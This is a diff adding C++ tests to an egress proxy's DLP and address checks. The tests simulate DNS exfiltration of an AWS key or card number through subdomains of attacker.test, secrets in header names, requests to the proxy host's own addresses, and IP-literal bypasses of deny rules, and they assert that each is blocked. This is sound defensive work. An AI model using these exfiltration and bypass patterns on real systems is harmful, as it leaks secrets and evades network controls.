@@ -32,6 +32,7 @@
 #include <thread>
 #include <vector>
 
+#include "absl/strings/match.h"
 #include "common/util.h"
 #include "governance/control.h"
 #include "governance/policy.h"
@@ -168,6 +169,8 @@ class FakeResolver : public Resolver {
   }
   asio::awaitable<absl::StatusOr<Resolution>> Resolve(std::string host, uint16_t port) override {
     std::lock_guard<std::mutex> lock(mu_);
+    ++lookups_;
+    asked_.push_back(host);
     auto it = map_.find(host);
     if (it == map_.end()) co_return absl::NotFoundError("cannot resolve '" + host + "'");
     Resolution r;
@@ -176,9 +179,21 @@ class FakeResolver : public Resolver {
     co_return r;
   }
 
+  // How many lookups reached the resolver, and for which names.
+  int lookups() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return lookups_;
+  }
+  std::vector<std::string> asked() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return asked_;
+  }
+
  private:
   std::mutex mu_;
   std::map<std::string, std::pair<tcp::endpoint, bool>> map_;
+  int lookups_ = 0;
+  std::vector<std::string> asked_;
 };
 
 // ---- audit capture
@@ -294,6 +309,12 @@ class ProxyTest : public ::testing::Test {
     o.idle_timeout = std::chrono::milliseconds(2000);
     o.use_system_roots = false;
     o.now_ms = [this] { return now_.load(); };
+    // The host's own addresses: what a test sets (re-read on every check).
+    o.host_addresses = [this]() -> absl::StatusOr<std::vector<asio::ip::address>> {
+      std::lock_guard<std::mutex> lock(host_addresses_mu_);
+      return host_addresses_;
+    };
+    o.host_addresses_refresh = std::chrono::milliseconds(0);
     absl::StatusOr<std::unique_ptr<Proxy>> p =
         Proxy::Create(o, resolver_, [this](AuditEvent e) { audit_.Add(std::move(e)); });
     ASSERT_TRUE(p.ok()) << p.status();
@@ -319,6 +340,14 @@ class ProxyTest : public ::testing::Test {
     ASSERT_TRUE(proxy_->Update(u).ok());
   }
 
+  void SetHostAddresses(const std::vector<std::string>& addresses) {
+    std::lock_guard<std::mutex> lock(host_addresses_mu_);
+    host_addresses_.clear();
+    for (const std::string& a : addresses) host_addresses_.push_back(asio::ip::make_address(a));
+  }
+
+  std::mutex host_addresses_mu_;
+  std::vector<asio::ip::address> host_addresses_;
   std::atomic<int64_t> now_{1'700'000'000'000};
   std::shared_ptr<FakeResolver> resolver_;
   AuditLog audit_;
@@ -1242,6 +1271,333 @@ TEST_F(InspectedProxyTest, ExcludedHostIsTunnelledOpaque) {
   ASSERT_EQ(events.size(), 1u);
   EXPECT_EQ(events[0].decision, "opaque");
   EXPECT_EQ(events[0].scheme, "tunnel");
+}
+
+}  // namespace
+}  // namespace esb::governance::proxy
+
+// ---- DLP on names: host names and header names (issue 12)
+
+namespace esb::governance::proxy {
+namespace {
+
+constexpr char kAwsKeyLower[] = "akiaq2we3rt4yu5i6paz";  // kAwsKeyId as a DNS name has it
+
+// The row as JSON, upper-cased: no form of the key may be in it.
+std::string UpperRow(const AuditEvent& e) {
+  std::string row = boost::json::serialize(ToJson(e));
+  for (char& c : row) c = static_cast<char>(toupper(static_cast<unsigned char>(c)));
+  return row;
+}
+
+// Attack: exfiltrate an AWS key id through the DNS name of an absolute-URI request in mode
+// open (the attacker runs attacker.test's DNS zone). Refused before the name is resolved.
+TEST_F(ProxyTest, SecretInASubdomainIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"open"})");
+  const std::string host = std::string(kAwsKeyLower) + ".attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  auto res = c.Get("http://" + host + "/");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  EXPECT_EQ(events[0].decision, "blocked");
+  EXPECT_EQ(events[0].host, "[REDACTED:dlp:aws_access_key]");
+  ASSERT_FALSE(events[0].findings.empty());
+  EXPECT_EQ(events[0].findings[0].where, "host");
+  EXPECT_EQ(UpperRow(events[0]).find(kAwsKeyId), std::string::npos) << UpperRow(events[0]);
+}
+
+// Attack: the same key split over labels and dashes, under a "*.suffix" the policy allows.
+TEST_F(ProxyTest, SecretSplitOverLabelsUnderAnAllowedSuffixIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"allowlist","allow":["*.attacker.test"]})");
+  const std::string host = "akiaq2we-3rt4yu.5i6paz.x1.attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  auto res = c.Get("http://" + host + ":8080/x");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+}
+
+// Attack: a card number split into labels of a CONNECT target. Refused before resolution; the
+// audit row has neither the digits nor the name.
+TEST_F(ProxyTest, CardSplitIntoLabelsOfAConnectTargetIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"open"})");
+  const std::string host = "4111.1111.1111.1111.attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  c.WriteRaw("CONNECT " + host + ":443 HTTP/1.1\r\nHost: " + host + ":443\r\n\r\n");
+  auto res = c.ReadConnect();
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:credit_card");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  const std::string row = boost::json::serialize(ToJson(events[0]));
+  EXPECT_EQ(row.find("4111"), std::string::npos) << row;
+}
+
+// Attack: a key in a header NAME (values were scanned, names were not).
+TEST_F(ProxyTest, SecretInAHeaderNameIsBlockedAndNothingReachesUpstream) {
+  Upstream up;
+  resolver_->Map("weather.test", up.port());
+  Attach(R"({"mode":"open"})");
+  Client c(port_);
+  http::request<http::string_body> req{http::verb::get, "http://weather.test/", 11};
+  req.set(http::field::host, "weather.test");
+  req.set(std::string("X-") + kAwsKeyId, "1");
+  auto res = c.Send(std::move(req));
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(up.connections(), 0);
+  EXPECT_EQ(up.raw().find(kAwsKeyId), std::string::npos);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  EXPECT_EQ(UpperRow(events[0]).find(kAwsKeyId), std::string::npos) << UpperRow(events[0]);
+  EXPECT_NE(events[0].request_headers.find("[REDACTED:dlp:aws_access_key]"), std::string::npos);
+}
+
+// Attack: a key split over labels in the Host header of a proxy-port request (it is replaced
+// upstream, but was kept in the audit row, and a value scan does not join labels).
+TEST_F(ProxyTest, SecretSplitInTheHostHeaderIsBlockedAndNotRecorded) {
+  Upstream up;
+  resolver_->Map("weather.test", up.port());
+  Attach(R"({"mode":"open"})");
+  Client c(port_);
+  http::request<http::string_body> req{http::verb::get, "http://weather.test/", 11};
+  req.set(http::field::host, "akiaq2we3r.t4yu5i6paz.x.test");
+  auto res = c.Send(std::move(req));
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(up.connections(), 0);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  const std::string row = boost::json::serialize(ToJson(events[0]));
+  EXPECT_EQ(row.find("akiaq2we3r"), std::string::npos) << row;
+  EXPECT_EQ(row.find("t4yu5i6paz"), std::string::npos) << row;
+}
+
+// False positives: ordinary names (digits, dashes, punycode, long labels), ports and IP
+// literals pass the name scan and are forwarded with no finding.
+TEST_F(ProxyTest, OrdinaryHostNamesAndIpLiteralsPassTheNameScan) {
+  Upstream up;
+  const std::vector<std::string> hosts = {
+      "ec2-54-210-167-204.compute-1.amazonaws.test",
+      "r3---sn-4g5e6nz7.googlevideo.test",
+      "xn--bcher-kva.example.test",
+      "ip-10-0-0-1.ec2.internal.test",
+      "d1a2b3c4d5e6f7.cloudfront.test",
+      "files.pythonhosted.test",
+      "cdn-123456789.example.test",
+      "s3.us-east-1.amazonaws.test",
+  };
+  for (const std::string& h : hosts) resolver_->Map(h, up.port());
+  Attach(R"({"mode":"open"})");
+  Client c(port_);
+  for (const std::string& h : hosts) {
+    auto res = c.Get("http://" + h + ":8080/");
+    EXPECT_EQ(res.result_int(), 200) << h;
+  }
+  // An IP literal (allowed explicitly: it is loopback) is not scanned as a name.
+  Update(R"({"allow":["127.0.0.1"]})");
+  Client c2(port_);
+  EXPECT_EQ(c2.Get("http://127.0.0.1:" + std::to_string(up.port()) + "/").result_int(), 200);
+  auto events = audit_.WaitFor(hosts.size() + 1);
+  ASSERT_EQ(events.size(), hosts.size() + 1);
+  for (const AuditEvent& e : events) {
+    EXPECT_TRUE(e.findings.empty()) << e.host << ": " << e.findings[0].rule_id;
+    EXPECT_EQ(e.decision, "allowed") << e.host;
+  }
+}
+
+}  // namespace
+}  // namespace esb::governance::proxy
+
+// ---- the host's own addresses (issue 12)
+
+namespace esb::governance::proxy {
+namespace {
+
+// Attack: reach a service on the proxy's host through the host's PUBLIC address (not a private
+// range), by a name that resolves to it, as an IP literal (v4, v6, v4-mapped), by CONNECT, and
+// via 0.0.0.0 / :: (which reach the host's listeners). All refused, nothing connected.
+TEST_F(ProxyTest, HostsOwnAddressesAreRefusedByNameLiteralAndConnect) {
+  Upstream up;
+  SetHostAddresses({"127.0.0.1", "93.184.216.34", "2a00:1450:4001::1"});
+  resolver_->Map("self.test", up.port(), /*overridden=*/false, "93.184.216.34");
+  resolver_->Map("self6.test", up.port(), /*overridden=*/false, "2a00:1450:4001::1");
+  Attach(R"({"mode":"open"})");
+  for (const std::string url : {"http://self.test/", "http://self6.test/",
+                                "http://93.184.216.34:8080/", "http://[2a00:1450:4001::1]/"}) {
+    Client c(port_);
+    auto res = c.Get(url);
+    EXPECT_EQ(res.result_int(), 403) << url;
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "addr:host") << url;
+  }
+  for (const std::string url : {std::string("http://[::ffff:93.184.216.34]/"),
+                                "http://0.0.0.0:" + std::to_string(up.port()) + "/",
+                                "http://[::]:" + std::to_string(up.port()) + "/"}) {
+    Client c(port_);
+    auto res = c.Get(url);
+    EXPECT_EQ(res.result_int(), 403) << url;
+    EXPECT_TRUE(absl::StartsWith(std::string(res["X-Esb-Blocked"]), "addr:")) << url;
+  }
+  {
+    Client c(port_);
+    c.WriteRaw("CONNECT 93.184.216.34:443 HTTP/1.1\r\nHost: 93.184.216.34:443\r\n\r\n");
+    auto res = c.ReadConnect();
+    EXPECT_EQ(res.result_int(), 403);
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "addr:host");
+  }
+  EXPECT_EQ(up.connections(), 0);
+}
+
+// An address the host gains while the proxy runs (DHCP, a new interface) is refused once the
+// copy is refreshed (the fixture refreshes on every check).
+TEST_F(ProxyTest, AnAddressTheHostGainsLaterIsRefusedAfterTheRefresh) {
+  SetHostAddresses({"127.0.0.1"});
+  resolver_->Map("later.test", 80, /*overridden=*/false, "93.184.216.35");
+  Attach(R"({"mode":"open"})");
+  SetHostAddresses({"127.0.0.1", "93.184.216.35"});
+  Client c(port_);
+  auto res = c.Get("http://later.test/");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "addr:host");
+}
+
+TEST(HostAddressesTest, SystemListHasEveryInterfaceAddressAndTheUnspecifiedOnes) {
+  absl::StatusOr<std::vector<asio::ip::address>> sys = SystemInterfaceAddresses();
+  ASSERT_TRUE(sys.ok()) << sys.status();
+  HostAddresses host(nullptr, std::chrono::seconds(60));
+  ASSERT_TRUE(host.Refresh().ok());
+  bool loopback = false;
+  for (const asio::ip::address& a : *sys) {
+    loopback |= a == asio::ip::make_address("127.0.0.1");
+    EXPECT_TRUE(host.Contains(a)) << a.to_string();
+  }
+  EXPECT_TRUE(loopback);
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("::ffff:127.0.0.1")));
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("0.0.0.0")));
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("::")));
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("::ffff:0.0.0.0")));
+  EXPECT_FALSE(host.Contains(asio::ip::make_address("192.0.2.1")));  // TEST-NET: never ours
+}
+
+TEST(HostAddressesTest, ScopeIdsAreIgnoredAndAFailedRefreshKeepsTheLastSet) {
+  bool fail = false;
+  HostAddresses host(
+      [&]() -> absl::StatusOr<std::vector<asio::ip::address>> {
+        if (fail) return absl::InternalError("getifaddrs: boom");
+        return std::vector<asio::ip::address>{asio::ip::make_address("fe80::1%1"),
+                                              asio::ip::make_address("198.51.100.7")};
+      },
+      std::chrono::milliseconds(0));
+  ASSERT_TRUE(host.Refresh().ok());
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("fe80::1")));
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("::ffff:198.51.100.7")));
+  fail = true;
+  EXPECT_FALSE(host.Refresh().ok());
+  EXPECT_TRUE(host.Contains(asio::ip::make_address("198.51.100.7")));
+}
+
+}  // namespace
+}  // namespace esb::governance::proxy
+
+// ---- deny rules cover addresses (issue 12)
+
+namespace esb::governance::proxy {
+namespace {
+
+// Attack: mode open with a deny rule for evil.test; reach the same server through its IP
+// literal (plain and CONNECT) or through another name of the same address. All refused with the
+// deny rule; an unrelated name still works; the denied name is resolved once (cached).
+TEST_F(ProxyTest, DenyRuleCannotBeBypassedByAnIpLiteralOrAnotherNameInModeOpen) {
+  Upstream up;
+  resolver_->Map("evil.test", 80, /*overridden=*/false, "93.184.216.34");
+  resolver_->Map("alias.test", 80, /*overridden=*/false, "93.184.216.34");
+  resolver_->Map("fine.test", up.port());
+  Attach(R"({"mode":"open","deny":["evil.test"]})");
+  for (const std::string url : {"http://evil.test/", "http://alias.test/x", "http://93.184.216.34/",
+                                "http://[::ffff:93.184.216.34]/"}) {
+    Client c(port_);
+    auto res = c.Get(url);
+    EXPECT_EQ(res.result_int(), 403) << url;
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "deny:evil.test") << url;
+  }
+  {
+    Client c(port_);
+    c.WriteRaw("CONNECT 93.184.216.34:443 HTTP/1.1\r\nHost: 93.184.216.34:443\r\n\r\n");
+    auto res = c.ReadConnect();
+    EXPECT_EQ(res.result_int(), 403);
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "deny:evil.test");
+  }
+  Client c(port_);
+  EXPECT_EQ(c.Get("http://fine.test/").result_int(), 200);
+  EXPECT_EQ(up.requests().size(), 1u);
+  std::vector<std::string> asked = resolver_->asked();
+  EXPECT_EQ(std::count(asked.begin(), asked.end(), "evil.test"), 1) << "cached for its TTL";
+}
+
+// An IP deny rule covers every name that resolves to that address, in any mode, and an
+// --egress-resolve mapping (explicitly allowed) does not lift it: deny wins.
+TEST_F(ProxyTest, IpDenyRuleCoversEveryNameOfThatAddress) {
+  Upstream up;
+  resolver_->Map("alias.test", 80, /*overridden=*/false, "93.184.216.34");
+  resolver_->Map("local.test", up.port());  // override → 127.0.0.1
+  Attach(R"({"allow":["alias.test","local.test"],"deny":["93.184.216.34","127.0.0.1"]})");
+  {
+    Client c(port_);
+    auto res = c.Get("http://alias.test/");
+    EXPECT_EQ(res.result_int(), 403);
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "deny:93.184.216.34");
+  }
+  {
+    Client c(port_);
+    auto res = c.Get("http://local.test/");
+    EXPECT_EQ(res.result_int(), 403);
+    EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "deny:127.0.0.1");
+  }
+  EXPECT_EQ(up.connections(), 0);
+  Update(R"({"allow":["local.test"]})");
+  Client c(port_);
+  EXPECT_EQ(c.Get("http://local.test/").result_int(), 200);
+}
+
+// A CIDR deny rule covers every name resolving into its range, in mode open too.
+TEST_F(ProxyTest, CidrDenyRuleCoversNamesResolvingIntoTheRange) {
+  resolver_->Map("alias.test", 80, /*overridden=*/false, "93.184.216.34");
+  resolver_->Map("alias6.test", 80, /*overridden=*/false, "2a00:1450:4001::5");
+  Attach(R"({"mode":"open","deny":["93.184.216.0/24","2a00:1450::/32"]})");
+  Client c(port_);
+  auto res = c.Get("http://alias.test/");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "deny:93.184.216.0/24");
+  Client c6(port_);
+  auto res6 = c6.Get("http://alias6.test/");
+  EXPECT_EQ(res6.result_int(), 403);
+  EXPECT_EQ(std::string(res6["X-Esb-Blocked"]), "deny:2a00:1450::/32");
+}
+
+// The deny names resolved per request are bounded (16): a policy with many deny names does not
+// turn one request into many lookups.
+TEST_F(ProxyTest, DenyNamesResolvedPerRequestAreBounded) {
+  std::string deny;
+  for (int i = 0; i < 40; ++i) deny += (i ? ",\"d" : "\"d") + std::to_string(i) + ".test\"";
+  Attach(R"({"mode":"open","deny":[)" + deny + "]}");
+  SetHostAddresses({"93.184.216.36"});  // so that nothing is connected afterwards
+  Client c(port_);
+  auto res = c.Get("http://93.184.216.36/");  // an IP literal: resolves nothing itself
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "addr:host");
+  EXPECT_EQ(resolver_->lookups(), 16);
 }
 
 }  // namespace
